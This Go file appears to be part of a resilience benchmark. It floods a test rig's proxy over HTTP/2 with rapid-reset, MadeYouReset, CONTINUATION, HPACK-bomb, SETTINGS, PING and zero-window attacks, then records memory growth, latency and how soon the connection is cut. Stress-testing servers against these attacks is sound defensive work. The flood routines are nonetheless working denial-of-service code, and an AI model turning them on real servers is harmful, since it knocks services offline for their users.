package bench

import (
	"bytes"
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"strings"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// A frameFlood presses on one connection of HTTP/2 with frames that cost the server more than their sender. It is opened again
// as often as the server ends it.
type frameFlood struct {
	name string
	send func(a *frameSender, turn uint32) error
	read bool // whether answers are taken
}

// resting keeps a sender that has nothing more to send from spinning.
const resting = 10 * time.Millisecond

var frameFloods = []frameFlood{
	{"rapid reset", func(a *frameSender, turn uint32) error {
		if err := a.head(2*turn+1, true, a.block("a")); err != nil {
			return err
		}
		return a.framer.WriteRSTStream(2*turn+1, http2.ErrCodeCancel)
	}, true},
	{"MadeYouReset", func(a *frameSender, turn uint32) error {
		if err := a.head(2*turn+1, false, a.block("a")); err != nil {
			return err
		}
		return a.framer.WriteRawFrame(http2.FrameWindowUpdate, 0, 2*turn+1, make([]byte, 4))
	}, true},
	{"CONTINUATION", func(a *frameSender, turn uint32) error {
		if turn == 0 {
			return a.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: a.block("a"), EndStream: true})
		}
		return a.framer.WriteContinuation(1, false, a.block(strings.Repeat("b", 1000)))
	}, true},
	{"HPACK bomb", func(a *frameSender, turn uint32) error { return a.head(2*turn+1, true, a.bomb()) }, true},
	{"SETTINGS", func(a *frameSender, _ uint32) error {
		return a.framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1 << 16})
	}, false},
	{"PING", func(a *frameSender, _ uint32) error { return a.framer.WritePing(false, [8]byte{}) }, false},
	{"window 0", func(a *frameSender, turn uint32) error {
		switch {
		case turn == 0:
			return a.framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
		case turn <= 200: // twice the streams that may be open
			return a.head(2*turn+1, true, a.block("a"))
		}
		time.Sleep(resting)
		return nil
	}, true},
}

type frameSender struct {
	conn   net.Conn
	framer *http2.Framer
}

func openFrames(ctx context.Context, address string) (*frameSender, error) {
	config := clientTLS(target{host: brokenHost})
	config.NextProtos = []string{"h2"}
	conn, err := (&tls.Dialer{NetDialer: &net.Dialer{Timeout: 5 * time.Second}, Config: config}).DialContext(ctx, "tcp", address)
	if err != nil {
		return nil, fmt.Errorf("open a connection of HTTP/2: %w", err)
	}
	a := &frameSender{conn: conn, framer: http2.NewFramer(conn, conn)}
	if _, err = io.WriteString(conn, http2.ClientPreface); err == nil {
		err = a.framer.WriteSettings()
	}
	if err != nil {
		_ = conn.Close()
		return nil, fmt.Errorf("begin HTTP/2: %w", err)
	}
	return a, nil
}

func (a *frameSender) head(stream uint32, last bool, block []byte) error {
	return a.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: block, EndStream: last, EndHeaders: true})
}

// block is a head that leaves nothing in the server's table.
func (a *frameSender) block(value string) []byte {
	var block bytes.Buffer
	encoder := hpack.NewEncoder(&block)
	encoder.SetMaxDynamicTableSizeLimit(0)
	for _, field := range requestFields {
		_ = encoder.WriteField(field) // into memory
	}
	_ = encoder.WriteField(hpack.HeaderField{Name: "x", Value: value, Sensitive: true})
	return block.Bytes()
}

var requestFields = []hpack.HeaderField{
	{Name: ":method", Value: "GET"}, {Name: ":scheme", Value: "https"}, {Name: ":path", Value: "/page/64"}, {Name: ":authority", Value: brokenHost},
}

// bomb names one field of four kilobytes four thousand times, with a byte each.
func (a *frameSender) bomb() []byte {
	var block bytes.Buffer
	encoder := hpack.NewEncoder(&block)
	for _, field := range requestFields {
		_ = encoder.WriteField(field)
	}
	_ = encoder.WriteField(hpack.HeaderField{Name: "x", Value: strings.Repeat("a", 4000)})
	block.Write(bytes.Repeat([]byte{0x80 | 62}, 4000))
	return block.Bytes()
}

func (f frameFlood) run(ctx context.Context, cfg FloodsConfig, r *rig, v *visitors) ([]ChaosFigure, error) {
	before := v.during(ctx, cfg.Hold/2)
	rss := memory(r.proxy.pid())
	flooding, stop := context.WithCancel(ctx)
	defer stop()
	var (
		attacker sync.WaitGroup
		frames   int
		closed   []float64 // seconds that each connection lived that the server has ended
		broken   error
	)
	attacker.Go(func() {
		for flooding.Err() == nil && broken == nil {
			var lived float64
			var sent int
			if sent, lived, broken = f.once(flooding, r.addrs[2]); flooding.Err() == nil && broken == nil {
				closed = append(closed, round(lived, 2))
			}
			frames += sent
		}
	})
	under := v.during(ctx, cfg.Hold)
	grown := memory(r.proxy.pid()) - rss
	stop()
	attacker.Wait()
	if broken != nil {
		return nil, broken
	}
	after := v.during(ctx, cfg.Hold/2)
	figures := append(worse(&before, &under, &after, frameWorse),
		figure("frames sent", float64(frames)), figure("times that the server ended the attacker's connection", float64(len(closed))))
	if len(closed) == 0 && cfg.Hold.Seconds() > frameClosedS {
		closed = append(closed, cfg.Hold.Seconds()) // it is still there
	}
	if len(closed) > 0 {
		figures = append(figures, atMost("s until it did, median", median(closed), frameClosedS))
	}
	return append(figures, atMost("MB that the process grew by", round(grown, 1), frameMB)), nil
}

// once floods one connection until the server ends it, or ctx does.
func (f frameFlood) once(ctx context.Context, address string) (frames int, lived float64, err error) {
	a, err := openFrames(ctx, address)
	if err != nil {
		if ctx.Err() != nil {
			return 0, 0, nil
		}
		return 0, 0, err
	}
	began := time.Now()
	stop := context.AfterFunc(ctx, func() { _ = a.conn.Close() })
	defer stop()
	var reading sync.WaitGroup
	if f.read {
		reading.Go(func() {
			_, _ = io.Copy(io.Discard, a.conn)
			_ = a.conn.Close() // what the server has ended is ended for the writer too
		})
	}
	for turn := uint32(0); ctx.Err() == nil && turn < 1<<30; turn++ {
		if f.send(a, turn) != nil {
			break
		}
		frames++
	}
	_ = a.conn.Close()
	reading.Wait()
	return frames, time.Since(began).Seconds(), nil
}
